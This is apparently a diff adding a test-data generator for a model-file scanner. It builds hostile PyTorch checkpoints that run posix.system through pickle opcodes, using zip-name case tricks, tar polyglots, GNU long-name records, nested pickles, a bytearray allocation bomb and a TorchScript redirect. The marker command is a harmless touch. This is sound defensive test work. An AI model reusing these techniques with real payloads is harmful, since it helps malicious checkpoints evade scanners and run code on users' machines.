@@ -1,0 +1,227 @@
+"""Checkpoints made to exploit how torch.load reads a file where a scanner reads it otherwise.
+
+Usage: /usr/bin/python3 testdata/gen/gen_hostile_torchload.py OUTDIR   (torch 1.13 on the host)
+Writes OUTDIR/<case>.pt and OUTDIR/cases.json ({case: {"technique", "rule", "marker"}}): the rule
+optstate must report, and how the session check (check_hostile_markers.py, in the torch 2.6 chroot)
+sees the payload act under real torch: "file" (posix.system touches /tmp/optstate-marker-<case>),
+"stdout" (a module that prints when imported), "alloc" (weights_only=True allocates what the
+pickle names), "jit" (torch.load hands the file to torch.jit.load), "nested" (pickle.loads of the
+bytes value, as code that unpickles one does) or "none" (real torch does not run it: kept as an
+error for what it could make another reader do). Nothing here is loaded:
+pickling records names, and every payload is spliced in as opcodes.
+"""
+import io
+import json
+import os
+import pickle
+import struct
+import sys
+import tarfile
+import zipfile
+
+import torch
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from gen_hostile import op_global, op_str, put, splice, state_with, torch_save_bytes  # noqa: E402
+
+
+def run(case):
+    return f"touch /tmp/optstate-marker-{case}"
+
+
+def system_call(case, protocol=2):
+    """A pickle of posix.system(run(case)), as opcodes (pickling os.system itself is the same)."""
+    return (pickle.PROTO + bytes([protocol]) + op_global("posix", "system") + op_str(run(case)) + pickle.TUPLE1 +
+            pickle.REDUCE + pickle.STOP)
+
+
+def zip_with_extra(case, name, first):
+    """A benign torch.save zip plus a payload record whose name differs from data.pkl's only in case."""
+    src = zipfile.ZipFile(io.BytesIO(torch_save_bytes(state_with(0))))
+    prefix = src.infolist()[0].filename.split("/")[0]
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
+        if first:
+            put(dst, f"{prefix}/{name}", system_call(case))
+        for info in src.infolist():
+            put(dst, info.filename, src.read(info))
+        if not first:
+            put(dst, f"{prefix}/{name}", system_call(case))
+    return out.getvalue()
+
+
+def zip_renamed(case, name):
+    """A torch.save zip whose data.pkl is the payload under another case of its name."""
+    src = zipfile.ZipFile(io.BytesIO(torch_save_bytes(state_with(0))))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
+        for info in src.infolist():
+            if info.filename.endswith("/data.pkl"):
+                put(dst, info.filename[:-len("data.pkl")] + name, system_call(case))
+            else:
+                put(dst, info.filename, src.read(info))
+    return out.getvalue()
+
+
+def tar_header(name, size, typeflag=b"0", ustar=True):
+    """One 512-byte tar header as tarfile parses it: only the checksum must be right."""
+    h = bytearray(512)
+    h[0:len(name)] = name
+    h[100:108] = b"0000644\0"
+    h[108:116] = b"0000000\0"
+    h[116:124] = b"0000000\0"
+    h[124:136] = f"{size:011o}\0".encode()
+    h[136:148] = b"00000000000\0"
+    h[156:157] = typeflag
+    if ustar:
+        h[257:265] = b"ustar\x0000"
+    return checksummed(h)
+
+
+def checksummed(h):
+    h[148:156] = b" " * 8
+    h[148:156] = f"{sum(h):06o}\0 ".encode()
+    return bytes(h)
+
+
+def tar_member(name, data, **kw):
+    return tar_header(name, len(data), **kw) + data + b"\0" * (-len(data) % 512)
+
+
+def old_members(case):
+    """The three members torch's pre-0.4 reader extracts; 'storages' is read first and calls."""
+    return {"storages": system_call(case), "tensors": pickle.dumps(0, protocol=2),
+            "pickle": pickle.dumps({"state": {}, "param_groups": []}, protocol=2)}
+
+
+def tar_v7(case):
+    m = old_members(case)
+    return b"".join(tar_member(n.encode(), d, ustar=False) for n, d in m.items()) + b"\0" * 1024
+
+
+def tar_gnu_longname(case):
+    """'storages' named only by a GNU long-name record; its own header names something else."""
+    m = old_members(case)
+    out = tar_member(b"././@LongLink", b"storages\0", typeflag=b"L") + tar_member(b"not-storages", m["storages"])
+    out += b"".join(tar_member(n.encode(), m[n]) for n in ("tensors", "pickle"))
+    return out + b"\0" * 1024
+
+
+def tar_last_wins(case):
+    """Two 'storages' members: tarfile's getmember takes the last, the payload."""
+    m = old_members(case)
+    out = tar_member(b"storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2))
+    out += tar_member(b"tensors", m["tensors"]) + tar_member(b"pickle", m["pickle"])
+    out += tar_member(b"storages", m["storages"])
+    return out + b"\0" * 1024
+
+
+def legacy_tar_polyglot(case):
+    """A benign legacy checkpoint whose first bytes are also a valid tar: its magic-number pickle
+    starts with BINBYTES covering the whole tar, then POP, then the magic number. torch.load tries
+    tarfile first, which needs only a header checksum: the tar's 'storages' runs."""
+    buf = io.BytesIO()
+    torch.save(state_with(0), buf, _use_new_zipfile_serialization=False)
+    legacy = buf.getvalue()
+    magic_len = legacy.index(b".") + 1  # PROTO 2, LONG1 of 10 bytes (no 0x2e among them), STOP
+    assert legacy[:4] == b"\x80\x02\x8a\x0a" and magic_len == 15
+    m = old_members(case)
+    body = b"".join(tar_member(n.encode(), d) for n, d in m.items()) + b"\0" * 1024
+    first = bytearray(tar_header(b"x", 0))
+    tar = bytes(first) + body
+    n = len(tar) - 7  # BINBYTES' bytes: everything of the tar after its own 7 opcode bytes
+    first[0:7] = b"\x80\x02B" + struct.pack("<I", n)
+    first[7:100] = b"\0" * 93  # the member's name ends at the first NUL
+    tar = checksummed(first) + body
+    assert len(tar) - 7 == n
+    return tar + pickle.POP + legacy[2:magic_len] + legacy[magic_len:]
+
+
+def rebuild_list_args(case):
+    """_rebuild_from_type_v2(func, new_type, args, state) calls func(*args): args a list."""
+    return splice(op_global("torch._tensor", "_rebuild_from_type_v2") + pickle.MARK +
+                  op_global("posix", "system") + op_global("torch", "Tensor") +
+                  pickle.EMPTY_LIST + op_str(run(case)) + pickle.APPEND + pickle.EMPTY_DICT +
+                  pickle.TUPLE + pickle.REDUCE)
+
+
+def import_only(module, name):
+    """A global only named (never called): resolving it imports the module."""
+    return splice(op_global(module, name))
+
+
+def nested_trailing_byte(case):
+    """A pickled call in a bytes value, one byte after its STOP (pickle.loads ignores it)."""
+    return torch_save_bytes(state_with(system_call(case, protocol=4) + b"\x00"))
+
+
+def bytearray_alloc(size):
+    """builtins.bytearray is on torch 2.6's weights_only allowlist: the size is allocated."""
+    return splice(op_global("builtins", "bytearray") + pickle.BININT + struct.pack("<i", size) + pickle.TUPLE1 +
+                  pickle.REDUCE)
+
+
+def torchscript_archive():
+    """A torch.save zip with constants.pkl and code/ beside data.pkl: torch.load (weights_only=False)
+    hands it to torch.jit.load, which reads TorchScript, not data.pkl."""
+    src = zipfile.ZipFile(io.BytesIO(torch_save_bytes(state_with(0))))
+    prefix = src.infolist()[0].filename.split("/")[0]
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
+        for info in src.infolist():
+            put(dst, info.filename, src.read(info))
+        put(dst, f"{prefix}/constants.pkl", pickle.dumps((), protocol=2))
+        put(dst, f"{prefix}/code/__torch__.py", b"class Payload(Module):\n  __parameters__ = []\n")
+    return out.getvalue()
+
+
+def cases():
+    c = {}
+
+    def add(name, technique, rule, marker, data):
+        c[name] = {"technique": technique, "rule": rule, "marker": marker, "data": data}
+
+    add("zip_case_only_upper", "the payload as DATA.PKL and no data.pkl: torch's zip reader ignores case",
+        "dangerous-global", "file", zip_renamed("zip_case_only_upper", "DATA.PKL"))
+    # Beside an exact data.pkl, torch 2.6 and 1.13 read that one (in either order): kept as errors,
+    # since which of two names that are one name to the reader it takes is the reader's choice.
+    add("zip_case_upper_after", "a record DATA.PKL after a benign data.pkl", "zip-duplicate-record", "none",
+        zip_with_extra("zip_case_upper_after", "DATA.PKL", False))
+    add("zip_case_mixed_before", "a record Data.pkl before a benign data.pkl", "zip-duplicate-record", "none",
+        zip_with_extra("zip_case_mixed_before", "Data.pkl", True))
+    add("tar_v7", "a pre-0.4 tar with V7 headers (no ustar magic)", "dangerous-global", "file", tar_v7("tar_v7"))
+    add("tar_gnu_longname", "'storages' named by a GNU long-name record", "dangerous-global", "file",
+        tar_gnu_longname("tar_gnu_longname"))
+    add("tar_last_member_wins", "two 'storages' members, the last calls", "dangerous-global", "file",
+        tar_last_wins("tar_last_member_wins"))
+    add("legacy_tar_polyglot", "a benign legacy checkpoint that is also a tar whose 'storages' calls",
+        "dangerous-global", "file", legacy_tar_polyglot("legacy_tar_polyglot"))
+    add("rebuild_list_args", "_rebuild_from_type_v2 with its arguments in a list", "dangerous-global", "file",
+        rebuild_list_args("rebuild_list_args"))
+    add("import_this", "a global of `this`, named only: importing it prints", "import-runs-code", "stdout",
+        import_only("this", "s"))
+    add("nested_trailing_byte", "a nested pickle with one byte after its STOP", "dangerous-global", "nested",
+        nested_trailing_byte("nested_trailing_byte"))
+    add("bytearray_2gib", "builtins.bytearray(2**31 - 1) in a 1 KiB file, allowed by weights_only",
+        "allocation-claim", "alloc", bytearray_alloc(2**31 - 1))
+    add("torchscript_archive", "constants.pkl and code/ beside data.pkl", "torchscript-archive", "jit",
+        torchscript_archive())
+    return c
+
+
+def main():
+    out = sys.argv[1]
+    os.makedirs(out, exist_ok=True)
+    index = {}
+    for name, case in sorted(cases().items()):
+        with open(os.path.join(out, name + ".pt"), "wb") as f:
+            f.write(case.pop("data"))
+        index[name] = case
+    with open(os.path.join(out, "cases.json"), "w") as f:
+        json.dump(index, f, indent=1, sort_keys=True)
+        f.write("\n")
+    print(f"{len(index)} cases in {out}")
+
+
+if __name__ == "__main__":
+    main()
